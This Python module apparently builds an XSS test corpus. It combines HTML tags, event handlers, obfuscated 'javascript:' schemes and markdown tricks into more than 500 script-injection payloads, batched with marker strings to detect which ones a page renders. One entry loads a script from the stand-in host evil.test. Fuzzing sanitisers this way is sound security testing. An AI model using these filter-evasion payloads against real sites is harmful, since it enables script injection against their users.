"""What filters are known to miss, grown from its parts: more than 500 texts that would run if a page took them for more."""

import itertools

RUN = "window.__ran=1;alert(1)"
TAGS = (
    *(
        "img",
        "svg",
        "math",
        "iframe",
        "object",
        "embed",
        "video",
        "audio",
        "details",
        "body",
        "input",
        "marquee",
    ),
    *("style", "a", "form", "button", "link", "meta", "base"),
)
EVENTS = ("onerror", "onload", "onclick", "ontoggle", "onfocus", "onmouseover", "onbegin", "onpointerenter")
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "data:text/html,",
    "vbscript:",
    "&#106;avascript:",
    " javascript:",
)


def vectors(run: str = RUN) -> list[str]:
    found = [f"<script>{run}</script>", "<script/src=//evil.test/x.js>", f"<<script>{run}//<</script>"]
    found += [
        f"<{tag} src=x href=x {event}={quote}{run}{quote}>"
        for tag, event, quote in itertools.product(TAGS, EVENTS, ('"', "'", ""))
    ]
    found += [f"[click]({scheme}{run})" for scheme in SCHEMES]
    found += [f"<{scheme}{run}>" for scheme in SCHEMES]
    found += [f"![x]({scheme}{run})" for scheme in SCHEMES]
    found += [f"[x]: {scheme}{run}\n\n[x]" for scheme in SCHEMES]
    found += [
        f'[t](https://a.test "{tag} {event}={run}")'
        for tag, event in itertools.product(("'><img", '"><svg'), EVENTS)
    ]
    found += [
        f"```{payload}\ncode\n```"
        for payload in (f'"><img src=x onerror={run}>', f"js' onload={run}", "<svg/onload=alert(1)>")
    ]
    found += [f"|a|b|\n|-|-|\n|<img src=x {event}={run}>|{event}|" for event in EVENTS]
    found += [
        f"<@{payload}>"
        for payload in ("1 onload=alert(1)", "1><img src=x onerror=alert(1)>", "1\"'", "-1", "9" * 16)
    ]
    found += [
        f"{wrap}<img src=x onerror={run}>{wrap}"
        for wrap in ("*", "**", "~~", "`", "_", "> ", "# ", "- ", "1. ", "\\")
    ]
    found += [
        f"<svg><animate onbegin={run} attributeName=x dur=1s>",
        f"<math><mtext><style><img src=x onerror={run}>",
        f"<!--><img src=x onerror={run}>",
        f"&lt;img src=x onerror={run}&gt;",
        f"&#60;script&#62;{run}&#60;/script&#62;",
    ]
    found += [
        f"https://a.test/{quote}{event}={run}"
        for quote, event in itertools.product(('"', "'", "`", "<", ">"), EVENTS)
    ]
    found += [f"<a href='{scheme}{run}'>x</a>" for scheme in SCHEMES]
    found += [f"<form action={scheme}{run}><button>x</button></form>" for scheme in SCHEMES]
    return found


def portions(field: str, size: int, between: str = " ") -> list[str]:
    """All of them, `size` in one text. Each text begins with its mark, by which a page shows that it was there."""
    every = vectors("__ran=1")
    return [f"{mark(field, number)} {between.join(part)}" for number, part in enumerate(split(every, size))]


def split(every: list[str], size: int) -> list[list[str]]:
    return [every[start : start + size] for start in range(0, len(every), size)]


def mark(field: str, number: int) -> str:
    return f"zq{field}{number}q"
